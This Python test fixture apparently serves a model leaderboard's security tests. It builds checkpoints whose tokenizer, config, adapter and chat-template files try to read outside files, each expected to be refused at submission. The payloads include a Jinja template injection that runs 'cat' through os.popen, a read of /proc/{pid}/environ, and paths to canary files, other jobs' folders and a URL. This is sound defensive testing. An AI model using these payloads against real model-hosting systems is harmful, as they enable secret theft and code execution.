"""Checkpoints that try to read what is not theirs, as somebody would push them to the Hub."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

from leaderboard.settings import PROJECT

DEMO = PROJECT / "checkpoints" / "podium-demo"
Change = Callable[[Path], None]


class Attack(NamedTuple):
    """A checkpoint: what it is made from, and what its author changed."""

    change: Change
    source: str = "tiny-base/1"
    weight_type: str = "Original"
    use_chat_template: bool = False
    refused: str | None = "opens_another_file"
    """Code of the problem with which it is refused at submission; None where what it says is never opened."""


def edit(name: str, **values: Any) -> Change:
    """Set values of a JSON file of the repository, None to remove one."""

    def change(folder: Path) -> None:
        place = folder / name
        content = json.loads(place.read_text()) if place.exists() else {}
        kept = {key: value for key, value in (content | values).items() if value is not None}
        place.write_text(json.dumps(kept))

    return change


def tokenizer(kind: str, remove: str = "tokenizer.json", **values: Any) -> Change:
    """A tokenizer of class `kind` without the repository's own file."""

    def change(folder: Path) -> None:
        (folder / remove).unlink(missing_ok=True)
        edit("tokenizer_config.json", tokenizer_class=kind, backend=None, **values)(folder)

    return change


def text(name: str, content: str) -> Change:
    """A file of the repository, such as what the Hub stores for a link: the path that it points to."""
    return lambda folder: (folder / name).write_text(content) and None


def both(*changes: Change) -> Change:
    """One change after the other."""

    def change(folder: Path) -> None:
        for step in changes:
            step(folder)

    return change


def index(shard: str) -> Change:
    """Weights in parts, one of which lies elsewhere."""

    def change(folder: Path) -> None:
        (folder / "model.safetensors").rename(folder / "model-00001-of-00002.safetensors")
        weights = {"model.embed_tokens.weight": shard, "model.norm.weight": "model-00001-of-00002.safetensors"}
        (folder / "model.safetensors.index.json").write_text(json.dumps({"metadata": {}, "weight_map": weights}))

    return change


def attacks(canary: str, relative: str, folder: str, pid: int, url: str) -> dict[str, Attack]:
    """Name -> attack. `canary` is a file, `relative` the same from a job's folders, `folder` a neighbour's, `pid` a
    process with a secret in its environment, `url` a server that must not be asked."""
    environ = f"/proc/{pid}/environ"
    return {
        "bert-vocab": Attack(tokenizer("BertTokenizer", vocab=canary)),
        "bert-vocab-relative": Attack(tokenizer("BertTokenizer", vocab=relative)),
        "bert-vocab-environ": Attack(tokenizer("BertTokenizer", vocab=environ)),
        "bert-vocab-file": Attack(tokenizer("BertTokenizer", vocab_file=canary)),
        "bert-vocab-link": Attack(both(tokenizer("BertTokenizer"), text("vocab.txt", canary)), refused=None),
        "gpt2-vocab-merges": Attack(tokenizer("GPT2Tokenizer", vocab=canary, merges=canary)),
        "gpt2-files": Attack(tokenizer("GPT2Tokenizer", vocab_file=canary, merges_file=canary)),
        "llama-vocab-file": Attack(tokenizer("LlamaTokenizer", vocab_file=canary, legacy=True)),
        "t5-spm": Attack(tokenizer("T5Tokenizer", vocab_file=canary, spm_file=canary)),
        "marian-files": Attack(tokenizer("MarianTokenizer", source_spm=canary, target_spm=canary, vocab=canary)),
        "bert-japanese": Attack(
            tokenizer("BertJapaneseTokenizer", vocab_file=canary, mecab_kwargs={"mecab_option": f"-r {canary}"})
        ),
        "tokenizer-file": Attack(
            tokenizer("PreTrainedTokenizerFast", tokenizer_file=canary, tokenizer_object=None), refused="no_tokenizer"
        ),
        "init-inputs": Attack(tokenizer("BertTokenizer", init_inputs=[canary])),
        "added-tokens": Attack(
            edit("tokenizer_config.json", added_tokens_file=canary, special_tokens_map_file=canary), refused=None
        ),
        "special-tokens-map": Attack(
            both(tokenizer("BertTokenizer"), edit("special_tokens_map.json", vocab_file=canary, name_or_path=folder))
        ),
        "gguf": Attack(edit("tokenizer_config.json", gguf_file=canary)),
        "chat-template-path": Attack(
            edit("tokenizer_config.json", chat_template=canary), use_chat_template=True, refused=None
        ),
        "chat-template-include": Attack(
            text("chat_template.jinja", "{% include '" + canary + "' %}"),
            use_chat_template=True,
            refused="chat_template_broken",
        ),
        "chat-template-globals": Attack(
            text("chat_template.jinja", "{{ cycler.__init__.__globals__.os.popen('cat " + canary + "').read() }}"),
            use_chat_template=True,
            refused=None,
        ),
        "config-names": Attack(
            edit("config.json", _name_or_path=folder, name_or_path=folder, tokenizer_class=canary), refused=None
        ),
        "config-weights": Attack(edit("config.json", transformers_weights=canary), refused="weights_elsewhere"),
        "config-files": Attack(edit("config.json", configuration_files=[canary])),
        "config-quantisation": Attack(
            edit(
                "config.json",
                quantization_config={
                    "quant_method": "gptq",
                    "bits": 4,
                    "tokenizer": folder,
                    "dataset": canary,
                    "modules_in_block_to_quantize": 1,
                },
            ),
            refused="precision_mismatch",
        ),
        "config-kernel": Attack(
            edit("config.json", _attn_implementation=url, attn_implementation=url), refused="kernel"
        ),
        "index-absolute": Attack(index(canary), refused="weights_elsewhere"),
        "index-relative": Attack(index(relative), refused="weights_elsewhere"),
        "generation-config": Attack(
            edit(
                "generation_config.json",
                assistant_model=folder,
                watermarking_config=canary,
                cache_implementation=url,
                custom_generate=folder,
            ),
            refused=None,
        ),
        "vocab-url": Attack(tokenizer("BertTokenizer", vocab=url, vocab_file=url)),
        "adapter-base": Attack(
            edit("adapter_config.json", base_model_name_or_path=folder, revision=canary, auto_mapping=None),
            "tiny-lora/1",
            "Adapter",
            refused=None,
        ),
        "adapter-files": Attack(
            edit("adapter_config.json", peft_type="VBLORA", init_lora_weights=canary, tokenizer_name_or_path=canary),
            "tiny-lora/1",
            "Adapter",
            refused=None,
        ),
        "prompt-tuning": Attack(
            edit(
                "adapter_config.json",
                peft_type="PROMPT_TUNING",
                prompt_tuning_init="TEXT",
                num_virtual_tokens=8,
                prompt_tuning_init_text="x",
                tokenizer_name_or_path=folder,
                tokenizer_kwargs={"vocab_file": canary},
            ),
            "tiny-lora/1",
            "Adapter",
            refused=None,
        ),
    }


def make(attack: Attack, folder: Path) -> Path:
    """The repository's files, in `folder`."""
    shutil.copytree(DEMO / attack.source, folder)
    attack.change(folder)
    return folder
